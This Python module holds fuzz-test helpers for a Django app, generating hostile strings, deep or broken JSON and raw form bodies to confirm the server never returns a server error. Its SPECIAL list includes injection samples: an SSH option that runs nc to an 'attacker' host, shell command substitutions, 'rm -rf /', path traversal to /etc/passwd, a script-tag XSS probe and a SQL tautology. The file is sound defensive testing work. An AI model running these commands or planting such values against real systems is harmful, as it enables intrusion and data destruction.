"""Hostile input for the fuzz tests: text with NUL and other control characters, lone
surrogates, huge strings, values starting with "-", deep and huge JSON, and raw form bodies
that carry what a browser never would."""

import json
from contextlib import contextmanager
from urllib.parse import quote

from django.contrib.messages import get_messages
from django.db import transaction
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# Every fuzz test: no deadline (a request to a real database varies), the function-scoped
# fixtures made once per test (clients, clusters) are fine, and nothing is stored between runs.
FUZZ = {
    "deadline": None,
    "suppress_health_check": [HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    "database": None,
    "derandomize": False,
}


def fuzz(max_examples: int):
    return settings(max_examples=max_examples, **FUZZ)


SPECIAL = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x01\x1f\x7f",
    "\x85\u2028\u2029",
    "\ud800",
    "x\udfffy",
    "\ufeff",
    "\u202e",
    "-oProxyCommand=nc attacker 22",
    "--help",
    "-1",
    "-",
    "--",
    "{host}",
    "{",
    "}",
    "{0}",
    "{host.__class__}",
    "${IFS}",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\\\con",
    "é" * 3,
    "𝟘𝟙",
    "١٢٣",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e309",
    "9" * 30,
    "-9" + "9" * 30,
    "0x10",
    "1_000",
    "true",
    "null",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "%00",
    "%s%s%n",
    "\\u0000",
    "[]",
    "{}",
    '{"a":',
    "12:30",
    "2026-02-30",
    "9999-12-31T23:59:59+14:00",
    "0001-01-01",
    "a" * 101,
    "a" * 5001,
    "-----BEGIN CERTIFICATE-----",
]


def huge(min_size: int = 1_000, max_size: int = 300_000):
    return st.builds(
        lambda unit, count: unit * count,
        st.sampled_from(["a", "\x00", "é", "[", "{", "-", "\u2028", "9", ",", "a:1,"]),
        st.integers(min_size, max_size),
    )


controls = st.text(alphabet=st.characters(max_codepoint=0x9F), max_size=40)
surrogates = st.text(alphabet=st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), min_size=1, max_size=4)
any_text = st.text(alphabet=st.characters(codec=None, exclude_categories=()), max_size=60)


def hostile_text():
    """Any string a hostile client can send."""
    return st.one_of(
        st.sampled_from(SPECIAL),
        any_text,
        controls,
        st.builds(lambda a, b: a + b, any_text, surrogates),
        any_text.map(lambda s: "-" + s),
        huge(1_000, 20_000),
        st.integers().map(str),
        st.floats().map(repr),
    )


def deep_json(depth: int) -> str:
    return "[" * depth + "]" * depth


def json_values(max_leaves: int = 12):
    """JSON values with hostile strings in keys and values."""
    leaves = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.integers(min_value=2**63 - 2, max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_text(),
    )
    return st.recursive(
        leaves,
        lambda children: st.one_of(
            st.lists(children, max_size=4), st.dictionaries(hostile_text(), children, max_size=4)
        ),
        max_leaves=max_leaves,
    )


def json_text():
    """JSON text: valid values, deep nesting, huge documents and broken syntax."""
    return st.one_of(
        json_values().map(lambda v: json.dumps(v)),
        json_values().map(lambda v: json.dumps(v, ensure_ascii=False)),
        st.integers(10, 200_000).map(deep_json),
        st.integers(10, 200_000).map(lambda n: '{"a":' * n + "1" + "}" * n),
        st.integers(1_000, 100_000).map(lambda n: json.dumps({"broker_down": ["x"] * n})),
        st.sampled_from(['{"broker_down": ["a\\u0000"]}', '{"\\u0000": 1}', '{"a": "\\ud800"}', "[", '"', "1" * 5000]),
        hostile_text(),
    )


def form_body(data: dict) -> bytes:
    """An urlencoded body as a hostile client sends it: lone surrogates as their raw UTF-8-like
    bytes (which no browser sends; Django decodes them with replacement)."""
    pairs = []
    for key, value in data.items():
        for item in value if isinstance(value, list) else [value]:
            pairs.append(
                quote(str(key).encode("utf-8", "surrogatepass"))
                + "="
                + quote(str(item).encode("utf-8", "surrogatepass"))
            )
    return "&".join(pairs).encode()


def post_form(client, url: str, data: dict):
    return client.post(url, form_body(data), content_type="application/x-www-form-urlencoded")


def get_query(client, url: str, data: dict):
    return client.get(url + "?" + form_body(data).decode())


def assert_answered(response) -> None:
    """No server error; a refusal says why (a form error, a message or a body)."""
    assert response.status_code < 500, response.content[:500]
    request = response.wsgi_request
    # An empty post is an unbound form to views written `Form(request.POST or None)`: the page again.
    if response.status_code == 200 and request.method == "POST" and request.POST:
        text = response.content.decode()
        assert 'class="errorlist' in text or "message-error" in text or messages_of(response), text[:300]
    elif 400 <= response.status_code < 500:
        assert response.content.strip(), response.status_code


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


@contextmanager
def rolled_back():
    """A savepoint per example: what one example stores never meets the next."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)
